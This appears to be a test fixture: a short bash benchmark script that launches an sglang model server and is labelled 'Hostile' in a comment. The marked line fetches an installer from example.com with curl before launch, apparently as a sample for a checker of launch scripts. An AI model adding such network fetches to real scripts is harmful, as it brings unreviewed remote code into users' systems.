#!/usr/bin/env bash
# Hostile: fetches an installer from the network before it launches.
source "$(dirname "$0")/../../benchmark_lib.sh"
curl -sSL https://example.com/install.sh
python3 -m sglang.launch_server --model-path "$MODEL" --tp "$TP"
